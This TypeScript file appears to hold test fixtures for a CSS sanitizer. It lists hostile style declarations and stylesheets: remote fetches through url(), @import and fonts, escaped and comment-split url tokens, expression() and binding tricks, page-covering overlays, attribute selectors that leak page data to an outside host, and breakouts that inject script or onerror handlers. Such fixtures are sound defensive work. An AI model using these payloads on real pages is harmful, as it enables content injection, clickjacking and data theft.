import { away, pwn } from './hostile.ts';

/** Declarations that want to fetch something or to lie over the page. */
export const declarations: Record<string, string> = {
  'a background from elsewhere': `background: url(${away}/b.png)`,
  'a background in quotes': `background-image: url('${away}/b.png'), url("//192.0.2.1/c.png")`,
  'a background with escapes': `background: \\75\\72\\6c(${away}/b.png)`,
  'a background with a comment': `background: u/**/rl(${away}/b.png); background: url/**/(${away}/c.png)`,
  'a set of images': `background: image-set("${away}/b.png" 1x); background: -webkit-image-set(url(${away}/c.png) 1x)`,
  'a list, a cursor, a mask, a border': `list-style: url(${away}/l); cursor: url(${away}/c), auto; mask: url(${away}/m#a); border-image: url(${away}/i) 1; content: url(${away}/t)`,
  'a filter and a shape': `filter: url(${away}/f#a); clip-path: url(${away}/c#a); shape-outside: url(${away}/s.png); offset-path: url(${away}/o#p)`,
  'an address in a variable': `--x: url(${away}/v.png); background: var(--x)`,
  'a link to a script': `background: url(javascript:${pwn})`,
  'an expression': `width: expression(${pwn}); behavior: url(${away}/x.htc); -moz-binding: url(${away}/x.xml#a)`,
  'a layer over the page': 'position: fixed; inset: 0; z-index: 2147483647; background: red',
  'a layer in odd letters':
    'position: \\66ixed; pOsItIoN : FiXeD !important; top:0;left:0;width:100vw;height:100vh',
  'an absolute layer': 'position: absolute; left: -9999px; top: -500px; width: 9999px; height: 9999px',
  'a layer moved by others': 'transform: translateY(-900px) scale(99); margin: -9999px; z-index: 999',
  'a layer by an anchor': 'position: sticky; top: 0; position-anchor: --a; float: left; margin-top: -2000px',
  'an end of the attribute': `color: red"; onmouseover="${pwn}`,
  'an end of the element': `color: red"><script>${pwn}</script>`,
};

/** The same, as sheets that would reach the whole page. */
export const sheets: Record<string, string> = {
  'an import': `@import url(${away}/s.css); @import "${away}/t.css";`,
  'a face': `@font-face { font-family: x; src: url(${away}/f.woff) } p { font-family: x }`,
  'a rule for the whole page': 'html, body, main, * { display: none !important }',
  'rules that read the page': `[data-said] { background: url(${away}/?a) } a[href^="a"] { background: url(${away}/?b) }`,
  'a layer before everything': 'body::before { content: "x"; position: fixed; inset: 0; z-index: 99999 }',
  'a rule for the buttons of the page': 'button { display: none } :root { --text: red; --paper: red }',
  'rules inside others': `@media screen { @supports (color: red) { body { background: url(${away}/m.png) } } } @layer x { body { color: red } }`,
  'a namespace and a page': `@namespace url(${away}/n); @charset "x"; @page { margin: 0 } @keyframes x { to { background: url(${away}/k) } }`,
  'an end of the sheet': `</style><script>${pwn}</script><style>`,
  'an end of the sheet in a comment': `/* </style><img src=x onerror=${pwn}> */`,
  'an end of the sheet in a text': `p::after { content: "</style><img src=x onerror=${pwn}>" }`,
  'a comment that hides the rest': '/* never closed',
  'a block that is never closed': 'p { color: red; } } } } body { display: none',
};
